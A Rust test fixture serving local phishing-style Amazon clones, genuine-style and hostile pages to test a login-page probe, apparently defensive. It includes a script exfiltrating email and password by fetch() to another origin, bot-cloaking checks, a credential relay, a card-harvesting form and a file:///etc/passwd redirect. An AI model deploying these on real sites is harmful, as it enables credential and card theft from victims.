//! Local test sites for the probe, written for this test suite (no third-party kit code):
//! phishing-style clones, genuine-style logins and hostile pages, served on 127.0.0.1 with
//! ephemeral ports by a tiny HTTP/1.1 server on std threads.
//!
//! Two servers run the same routes: the "main" one on 127.0.0.1 and the "elsewhere" one on
//! `localhost` (another origin): it receives the password a clone sends by fetch(), and plays
//! the genuine site a relay forwards to. A kit's jump to "the brand's real site" goes to
//! `https://www.amazon.com/...`, which the browser cannot resolve offline (host-resolver-rules):
//! the navigation fails but the origin change is observed, as it would be online.
#![allow(dead_code)]

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::{Arc, OnceLock};
use std::thread;
use std::time::Duration;

pub struct Req {
    pub method: String,
    pub path: String,
    pub headers: Vec<(String, String)>,
    pub body: String,
}

impl Req {
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
    pub fn cookie(&self, name: &str) -> Option<String> {
        let c = self.header("cookie")?;
        c.split(';').find_map(|kv| {
            let (k, v) = kv.trim().split_once('=')?;
            (k == name).then(|| v.to_string())
        })
    }
}

pub enum Resp {
    Page {
        status: u16,
        headers: Vec<(String, String)>,
        body: Vec<u8>,
        delay: Duration,
    },
    /// Headers and the start of a page, then nothing for a minute: a page that never finishes.
    Hang,
}

pub fn html(body: &str) -> Resp {
    Resp::Page {
        status: 200,
        headers: vec![("Content-Type".into(), "text/html; charset=utf-8".into())],
        body: body.as_bytes().to_vec(),
        delay: Duration::ZERO,
    }
}

pub fn status(code: u16, ctype: &str, body: &str) -> Resp {
    Resp::Page {
        status: code,
        headers: vec![("Content-Type".into(), ctype.into())],
        body: body.as_bytes().to_vec(),
        delay: Duration::ZERO,
    }
}

pub fn redirect(to: &str) -> Resp {
    Resp::Page {
        status: 302,
        headers: vec![("Location".into(), to.into())],
        body: Vec::new(),
        delay: Duration::ZERO,
    }
}

pub fn with_cookie(mut r: Resp, cookie: &str) -> Resp {
    if let Resp::Page { headers, .. } = &mut r {
        headers.push(("Set-Cookie".into(), format!("{cookie}; Path=/")));
    }
    r
}

pub fn delayed(mut r: Resp, d: Duration) -> Resp {
    if let Resp::Page { delay, .. } = &mut r {
        *delay = d;
    }
    r
}

fn read_req(stream: &mut TcpStream) -> Option<Req> {
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .ok()?;
    let mut r = BufReader::new(stream.try_clone().ok()?);
    let mut line = String::new();
    r.read_line(&mut line).ok()?;
    let mut parts = line.split_whitespace();
    let method = parts.next()?.to_string();
    let path = parts.next()?.to_string();
    let mut headers = Vec::new();
    let mut len = 0usize;
    loop {
        let mut h = String::new();
        if r.read_line(&mut h).ok()? == 0 {
            break;
        }
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':') {
            if k.eq_ignore_ascii_case("content-length") {
                len = v.trim().parse().unwrap_or(0).min(1 << 20);
            }
            headers.push((k.trim().to_string(), v.trim().to_string()));
        }
        if headers.len() > 100 {
            break;
        }
    }
    let mut body = vec![0u8; len];
    r.read_exact(&mut body).ok()?;
    Some(Req {
        method,
        path,
        headers,
        body: String::from_utf8_lossy(&body).into_owned(),
    })
}

fn write_resp(stream: &mut TcpStream, resp: Resp) {
    match resp {
        Resp::Page {
            status,
            headers,
            body,
            delay,
        } => {
            if !delay.is_zero() {
                thread::sleep(delay);
            }
            let mut head = format!(
                "HTTP/1.1 {status} X\r\nContent-Length: {}\r\nConnection: close\r\nCache-Control: no-store\r\n",
                body.len()
            );
            for (k, v) in headers {
                head.push_str(&format!("{k}: {v}\r\n"));
            }
            head.push_str("\r\n");
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(&body);
        }
        Resp::Hang => {
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n");
            let chunk = "<html><head><title>Loading</title></head><body><p>Loading";
            let _ = stream.write_all(format!("{:x}\r\n{chunk}\r\n", chunk.len()).as_bytes());
            let _ = stream.flush();
            thread::sleep(Duration::from_secs(60));
        }
    }
    let _ = stream.flush();
}

pub type Handler = dyn Fn(&Req, &Sites) -> Resp + Send + Sync;

/// Base URLs of the two servers.
#[derive(Clone, Debug)]
pub struct Sites {
    pub main: String,
    pub elsewhere: String,
}

fn serve(bind: &str, handler: Arc<Handler>, sites: Arc<OnceLock<Sites>>) -> SocketAddr {
    let l = TcpListener::bind(bind).expect("bind test server");
    let addr = l.local_addr().expect("addr");
    thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let h = handler.clone();
            let sites = sites.clone();
            thread::spawn(move || {
                if let Some(req) = read_req(&mut s) {
                    let Some(sites) = sites.get() else { return };
                    let resp = h(&req, sites);
                    write_resp(&mut s, resp);
                }
            });
        }
    });
    addr
}

/// Start both servers once per test process.
pub fn sites() -> &'static Sites {
    static SITES: OnceLock<Sites> = OnceLock::new();
    SITES.get_or_init(|| {
        let cell: Arc<OnceLock<Sites>> = Arc::new(OnceLock::new());
        let h: Arc<Handler> = Arc::new(route);
        let a = serve("127.0.0.1:0", h.clone(), cell.clone());
        let b = serve("127.0.0.1:0", h, cell.clone());
        let s = Sites {
            main: format!("http://127.0.0.1:{}", a.port()),
            elsewhere: format!("http://localhost:{}", b.port()),
        };
        let _ = cell.set(s.clone());
        s
    })
}

/// A tiny blocking HTTP client, for the relay.
fn forward(base: &str, method: &str, path: &str, body: &str) -> Resp {
    let hostport = base.trim_start_matches("http://");
    let Ok(mut s) = TcpStream::connect(hostport.replace("localhost", "127.0.0.1")) else {
        return status(502, "text/plain", "relay: upstream down");
    };
    let req = format!(
        "{method} {path} HTTP/1.1\r\nHost: {hostport}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let _ = s.write_all(req.as_bytes());
    let mut buf = Vec::new();
    let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
    let _ = s.read_to_end(&mut buf);
    let text = String::from_utf8_lossy(&buf).into_owned();
    let Some((head, body)) = text.split_once("\r\n\r\n") else {
        return status(502, "text/plain", "relay: bad upstream answer");
    };
    let code = head
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(502);
    let mut headers = Vec::new();
    for l in head.lines().skip(1) {
        if let Some((k, v)) = l.split_once(':')
            && (k.eq_ignore_ascii_case("content-type") || k.eq_ignore_ascii_case("location"))
        {
            headers.push((k.trim().to_string(), v.trim().to_string()));
        }
    }
    Resp::Page {
        status: code,
        headers,
        body: body.as_bytes().to_vec(),
        delay: Duration::ZERO,
    }
}

const STYLE: &str = "<style>body{font-family:sans-serif;max-width:420px;margin:40px auto}input,button{display:block;margin:8px 0;padding:6px;width:100%}.hide{display:none}.err{color:#c40000;border:1px solid #c40000;padding:8px}</style>";

/// An Amazon-style sign-in page (as clones and the genuine-style server show it).
pub fn amazon_page(body: &str) -> String {
    format!(
        "<!doctype html><html><head><meta charset=utf-8><title>Amazon Sign-In</title>{STYLE}</head><body><img alt=\"Amazon\" width=100 height=30 src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"><h1>Sign in</h1>{body}<p>By continuing, you agree to Amazon's Conditions of Use and Privacy Notice.</p></body></html>"
    )
}

/// A neutral (unbranded) login page for genuine-style and hostile targets.
pub fn plain_page(title: &str, body: &str) -> String {
    format!(
        "<!doctype html><html><head><meta charset=utf-8><title>{title}</title>{STYLE}</head><body><h1>{title}</h1>{body}</body></html>"
    )
}

fn one_step_form(action: &str, extra: &str) -> String {
    format!(
        "{extra}<form method=post action=\"{action}\"><label>Email or mobile phone number<input type=email name=email></label><label>Password<input type=password name=password></label><input type=hidden name=appActionToken value=abc123><button type=submit>Sign in</button></form>"
    )
}

const REAL_SITE: &str = "https://www.amazon.com/ap/forgotpassword";

fn param(body: &str, name: &str) -> Option<String> {
    body.split('&').find_map(|kv| {
        let (k, v) = kv.split_once('=')?;
        (k == name).then(|| v.replace('+', " ").replace("%40", "@"))
    })
}

/// Every target, by path.
pub fn route(req: &Req, sites: &Sites) -> Resp {
    let p = req.path.split('?').next().unwrap_or("");
    let post = req.method == "POST";
    match p {
        // ---------- phishing-style ----------
        "/p/onestep/" if !post => html(&amazon_page(&one_step_form("/p/onestep/signin", ""))),
        "/p/onestep/signin" if post => redirect(REAL_SITE),

        "/p/idfirst/" if !post => html(&amazon_page(
            "<form method=post action=\"/p/idfirst/claim\"><label>Email or mobile phone number<input type=email name=email></label><button type=submit>Continue</button></form>",
        )),
        "/p/idfirst/claim" if post => {
            let e = param(&req.body, "email").unwrap_or_default();
            html(&amazon_page(&format!(
                "<p>{e} <a href=\"/p/idfirst/\">Change</a></p><form method=post action=\"/p/idfirst/pw\"><input type=hidden name=email value=\"{e}\"><label>Password<input type=password name=password></label><button type=submit>Sign in</button></form>"
            )))
        }
        "/p/idfirst/pw" if post => redirect("https://www.amazon.com/"),

        "/p/double/" if !post => html(&amazon_page(&one_step_form("/p/double/signin", ""))),
        "/p/double/signin" if post => {
            if req.cookie("tries").is_some() {
                redirect(REAL_SITE)
            } else {
                with_cookie(
                    html(&amazon_page(&one_step_form(
                        "/p/double/signin",
                        "<div class=err><h4>There was a problem</h4>Your password is incorrect</div>",
                    ))),
                    "tries=1",
                )
            }
        }

        "/p/exfil/" if !post => html(&amazon_page(&format!(
            "{}<script>document.querySelector('form').addEventListener('submit', function (ev) {{ ev.preventDefault(); var f = ev.target; fetch('{}/collect', {{method: 'POST', mode: 'no-cors', body: JSON.stringify({{u: f.email.value, p: f.password.value}})}}).finally(function () {{ location.href = 'https://www.amazon.com/ap/signin'; }}); }});</script>",
            one_step_form("/p/exfil/unused", ""),
            sites.elsewhere
        ))),
        "/collect" => status(204, "text/plain", ""),

        "/p/jsform/" if !post => html(&amazon_page(
            "<div id=app>Loading...</div><script>setTimeout(function () { var app = document.getElementById('app'); app.innerHTML = ''; var e = document.createElement('input'); e.placeholder = 'Email'; e.id = 'ap_email'; var p = document.createElement('input'); p.type = 'password'; p.placeholder = 'Password'; var b = document.createElement('div'); b.textContent = 'Sign in'; b.setAttribute('role', 'button'); b.style.cssText = 'background:#f0c14b;padding:8px;cursor:pointer'; b.onclick = function () { var x = new XMLHttpRequest(); x.open('POST', '/p/jsform/api'); x.setRequestHeader('Content-Type', 'application/json'); x.onload = function () { app.innerHTML = '<h2>Thank you! Your account has been verified.</h2>'; }; x.send(JSON.stringify({login: e.value, pass: p.value})); }; app.append(e, p, b); }, 300);</script>",
        )),
        "/p/jsform/api" if post => status(200, "application/json", "{\"ok\":true}"),

        "/p/hidden/" if !post => html(&amazon_page(&one_step_form(
            "/p/hidden/signin",
            "<div class=\"err hide\" id=auth-error-message-box><h4>There was a problem</h4>Your password is incorrect</div>",
        ))),
        "/p/hidden/signin" if post => html(&amazon_page(
            "<div class=\"err hide\"><h4>There was a problem</h4>Your password is incorrect</div><h2>Thank you</h2><p>We are verifying your account. Please wait...</p>",
        )),

        "/p/card/" if !post => html(&amazon_page(&one_step_form("/p/card/signin", ""))),
        "/p/card/signin" if post => redirect("/p/card/billing"),
        "/p/card/billing" if !post => html(&amazon_page(
            "<h2>Update your payment information</h2><form method=post action=\"/p/card/done\"><label>Name on card<input name=ccname autocomplete=cc-name></label><label>Card number<input name=cardnumber autocomplete=cc-number></label><label>Expiration date<input name=exp placeholder=\"MM/YY\" autocomplete=cc-exp></label><label>CVV<input name=cvv></label><button type=submit>Continue</button></form>",
        )),

        "/p/relay/" if !post => forward(&sites.elsewhere, "GET", "/g/amazon/", ""),
        "/p/relay/signin" if post => {
            forward(&sites.elsewhere, "POST", "/g/amazon/signin", &req.body)
        }

        // Cloaks from bots: shows the login only to a browser that looks ordinary. When it
        // cloaks, the page says which check gave the browser away (for the test's message).
        "/p/cloak/" if !post => html(&amazon_page(&format!(
            "<div id=c>Not Found</div><script>var why = []; if (navigator.webdriver !== false) why.push('webdriver=' + navigator.webdriver); if (/Headless/i.test(navigator.userAgent)) why.push('ua=' + navigator.userAgent); if (!(navigator.languages.length > 0)) why.push('no languages'); if (window.outerWidth < 800 || window.outerHeight < 500) why.push('window ' + window.outerWidth + 'x' + window.outerHeight); if (navigator.userAgentData && navigator.userAgentData.brands.some(function (b) {{ return /Headless/i.test(b.brand); }})) why.push('client hints'); if (why.length === 0) {{ document.getElementById('c').innerHTML = '{}'; }} else {{ document.getElementById('c').textContent = 'Not Found (' + why.join(', ') + ')'; }}</script>",
            one_step_form("/p/onestep/signin", "").replace('\'', "\\'")
        ))),

        "/p/iframe/" if !post => html(&plain_page(
            "Account check",
            &format!(
                "<iframe src=\"{}/p/onestep/\" width=600 height=500></iframe>",
                sites.elsewhere
            ),
        )),

        // A notice page, not a login: the probe follows its one "Sign in" link to the clone.
        // A hidden frame on it serves an "invoice" download (denied, listed, and no obstacle
        // to following the link).
        "/p/landing/" if !post => html(&amazon_page(
            "<iframe src=\"/h/download/\" style=\"display:none\"></iframe><h2>Your account is on hold</h2><p>We noticed unusual activity on your seller account. To restore access, confirm your details within 24 hours.</p><p><a href=\"/p/onestep/\">Sign in to your account</a></p>",
        )),

        // Password-only page that shows the victim's address as text (kits fill it in from
        // the link they sent).
        "/p/pwonly/" if !post => html(&amazon_page(
            "<p>jane.doe@example.com <a href=\"#\">Change</a></p><form method=post action=\"/p/pwonly/signin\"><input type=hidden name=email value=\"jane.doe@example.com\"><label>Password<input type=password name=password></label><button type=submit>Sign in</button></form>",
        )),
        "/p/pwonly/signin" if post => redirect(REAL_SITE),

        // The only working submit control sits outside the form: pressing Enter does nothing
        // (the form refuses its own submit event), the button posts the form by script.
        "/p/outside/" if !post => html(&amazon_page(
            "<form id=f method=post action=\"/p/outside/signin\" onsubmit=\"return false\"><label>Email or mobile phone number<input type=email name=email></label><label>Password<input type=password name=password></label></form><div class=footer><button type=button onclick=\"HTMLFormElement.prototype.submit.call(document.getElementById('f'))\">Sign in</button></div>",
        )),
        "/p/outside/signin" if post => redirect(REAL_SITE),

        // A GET form: the password travels in the query string.
        "/p/getform/" if !post => html(&amazon_page(
            "<form method=get action=\"/p/getform/go\"><label>Email or mobile phone number<input type=email name=email></label><label>Password<input type=password name=password></label><button type=submit>Sign in</button></form>",
        )),
        "/p/getform/go" => html(&amazon_page(
            "<h2>Thank you</h2><p>Your account has been verified.</p>",
        )),

        // The password travels in an Authorization header (HTTP Basic over fetch()).
        "/p/basic/" if !post => html(&amazon_page(
            "<div id=app><form id=f><label>Email or mobile phone number<input type=email name=email></label><label>Password<input type=password name=password></label><button type=submit>Sign in</button></form></div><script>document.getElementById('f').addEventListener('submit', function (ev) { ev.preventDefault(); var f = ev.target; fetch('/p/basic/api', {headers: {Authorization: 'Basic ' + btoa(f.email.value + ':' + f.password.value)}}).then(function () { document.getElementById('app').innerHTML = '<h2>Welcome back</h2><p>Your account is verified.</p>'; }); });</script>",
        )),
        "/p/basic/api" => status(200, "application/json", "{\"ok\":true}"),

        // ---------- genuine-style ----------
        "/g/amazon/" if !post => html(&amazon_page(&one_step_form("/p/relay/signin", ""))),
        "/g/amazon/signin" if post => html(&amazon_page(&one_step_form(
            "/p/relay/signin",
            "<div class=err><h4>There was a problem</h4>Your password is incorrect</div>",
        ))),

        "/g/onestep/" if !post => html(&plain_page(
            "Example Shop sign-in",
            &one_step_form("/g/onestep/signin", ""),
        )),
        "/g/onestep/signin" if post => html(&plain_page(
            "Example Shop sign-in",
            &one_step_form(
                "/g/onestep/signin",
                "<div class=err>Your email or password is incorrect.</div>",
            ),
        )),

        "/g/idfirst/" | "/g/idfirst/claim" => {
            let err = if post {
                "<div class=err><h4>There was a problem</h4>We cannot find an account with that email address</div>"
            } else {
                ""
            };
            html(&plain_page(
                "Example Shop sign-in",
                &format!(
                    "{err}<form method=post action=\"/g/idfirst/claim\"><label>Email or mobile phone number<input type=email name=email></label><button type=submit>Continue</button></form>"
                ),
            ))
        }

        "/g/xhr401/" if !post => html(&plain_page(
            "Example Cloud console",
            "<form id=f><label>Username<input name=username autocomplete=username></label><label>Password<input type=password name=password></label><button type=submit>Log in</button></form><script>document.getElementById('f').addEventListener('submit', function (ev) { ev.preventDefault(); fetch('/g/xhr401/auth/token', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({u: this.username.value, p: this.password.value})}); });</script>",
        )),
        "/g/xhr401/auth/token" if post => {
            status(401, "application/json", "{\"error\":\"unauthorized\"}")
        }

        "/g/reprompt/" | "/g/reprompt/signin" => html(&plain_page(
            "Example Bank sign-in",
            &one_step_form("/g/reprompt/signin", ""),
        )),

        "/g/slow/" if !post => html(&plain_page(
            "Example Mail sign-in",
            "<div id=msg></div><form id=f><label>Email<input type=email name=email></label><label>Password<input type=password name=password></label><button type=submit>Sign in</button></form><script>document.getElementById('f').addEventListener('submit', function (ev) { ev.preventDefault(); var x = new XMLHttpRequest(); x.open('POST', '/g/slow/login'); x.onload = function () { document.getElementById('msg').innerHTML = '<div class=err>' + JSON.parse(x.responseText).error + '</div>'; }; x.send(new URLSearchParams(new FormData(this)).toString()); });</script>",
        )),
        "/g/slow/login" if post => delayed(
            status(
                200,
                "application/json",
                "{\"error\":\"The password you entered is incorrect.\"}",
            ),
            Duration::from_secs(2),
        ),

        // After the password: "type the characters you see" (a CAPTCHA stands in the way).
        "/g/captcha/" if !post => html(&plain_page(
            "Example Market sign-in",
            &one_step_form("/g/captcha/signin", ""),
        )),
        "/g/captcha/signin" if post => html(&plain_page(
            "Example Market sign-in",
            "<h2>Enter the characters you see</h2><img alt=\"captcha\" width=200 height=70 src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"><form method=post action=\"/g/captcha/signin\"><label>Type characters<input name=guess></label><button type=submit>Continue</button></form>",
        )),

        // ---------- hostile ----------
        "/h/noform/" => html(&plain_page(
            "Gardening tips",
            "<p>Water your tomatoes in the morning.</p><p>Mulch keeps the soil moist.</p>",
        )),
        "/h/hang/" => Resp::Hang,
        "/h/loop/" => redirect("/h/loop/"),
        "/h/download/" => Resp::Page {
            status: 200,
            headers: vec![
                ("Content-Type".into(), "application/octet-stream".into()),
                (
                    "Content-Disposition".into(),
                    "attachment; filename=\"invoice.exe\"".into(),
                ),
            ],
            body: b"MZ not really a program".to_vec(),
            delay: Duration::ZERO,
        },
        // A download without Content-Disposition: known only by its type.
        "/h/archive/" => Resp::Page {
            status: 200,
            headers: vec![("Content-Type".into(), "application/x-7z-compressed".into())],
            body: b"7z not really an archive".to_vec(),
            delay: Duration::ZERO,
        },
        "/h/popup/" if !post => html(&plain_page(
            "Prize claim",
            "<form id=f><label>Email<input type=email name=email></label><label>Password<input type=password name=password></label><button type=submit>Claim</button></form><script>window.open('/h/popup/ad'); document.getElementById('f').addEventListener('submit', function (ev) { ev.preventDefault(); window.open('/h/popup/ad', '_blank'); });</script>",
        )),
        "/h/popup/ad" => html(&plain_page("You won", "<p>Click here</p>")),

        // Asks for location and notifications at once; shows what it got.
        "/h/perm/" => html(&plain_page(
            "Permissions",
            "<div id=out></div><script>var out = document.getElementById('out'); function show(k, v) { var p = document.createElement('p'); p.textContent = k + ': ' + v; out.append(p); } navigator.geolocation.getCurrentPosition(function () { show('geolocation', 'granted'); }, function (e) { show('geolocation', e.code === 1 ? 'denied' : 'error ' + e.code); }); Notification.requestPermission().then(function (r) { show('notifications', r); });</script>",
        )),

        // After the submit the page tries to open a local file in the top window.
        "/h/scheme/" if !post => html(&plain_page(
            "Webmail sign-in",
            "<form id=f><label>Email<input type=email name=email></label><label>Password<input type=password name=password></label><button type=submit>Sign in</button></form><script>document.getElementById('f').addEventListener('submit', function (ev) { ev.preventDefault(); location.href = 'file:///etc/passwd'; });</script>",
        )),

        _ => status(404, "text/html", "<h1>Not found</h1>"),
    }
}

/// Every target with the outcome it must get from the browser engine.
pub const TARGETS: &[(&str, &str)] = &[
    ("/p/onestep/", "accepted"),
    ("/p/idfirst/", "accepted"),
    ("/p/double/", "accepted_after_retry"),
    ("/p/exfil/", "accepted"),
    ("/p/jsform/", "accepted"),
    ("/p/hidden/", "accepted"),
    ("/p/card/", "accepted"),
    ("/p/relay/", "rejected"),
    ("/p/iframe/", "accepted"),
    ("/p/cloak/", "accepted"),
    ("/p/landing/", "accepted"),
    ("/p/pwonly/", "accepted"),
    ("/p/outside/", "accepted"),
    ("/p/getform/", "accepted"),
    ("/p/basic/", "accepted"),
    ("/g/onestep/", "rejected"),
    ("/g/idfirst/", "rejected_identifier"),
    ("/g/xhr401/", "rejected"),
    ("/g/reprompt/", "rejected"),
    ("/g/slow/", "rejected"),
    ("/g/captcha/", "challenge"),
    ("/h/noform/", "inconclusive"),
    ("/h/hang/", "inconclusive"),
    ("/h/loop/", "inconclusive"),
    ("/h/download/", "inconclusive"),
    ("/h/archive/", "inconclusive"),
    ("/h/popup/", "inconclusive"),
    ("/h/perm/", "inconclusive"),
    ("/h/scheme/", "inconclusive"),
];

/// What the HTTP engine must say for the same targets (JavaScript ones are inconclusive).
pub const HTTP_TARGETS: &[(&str, &str)] = &[
    ("/p/onestep/", "accepted"),
    ("/p/idfirst/", "accepted"),
    ("/p/double/", "accepted_after_retry"),
    ("/p/hidden/", "accepted"),
    ("/p/card/", "accepted"),
    ("/p/relay/", "rejected"),
    ("/p/landing/", "accepted"),
    ("/p/pwonly/", "accepted"),
    ("/p/getform/", "accepted"),
    ("/p/jsform/", "inconclusive"),
    ("/g/onestep/", "rejected"),
    ("/g/idfirst/", "rejected_identifier"),
    ("/g/reprompt/", "rejected"),
    ("/g/captcha/", "challenge"),
    ("/h/noform/", "inconclusive"),
    ("/h/hang/", "inconclusive"),
    ("/h/loop/", "inconclusive"),
    ("/h/download/", "inconclusive"),
];
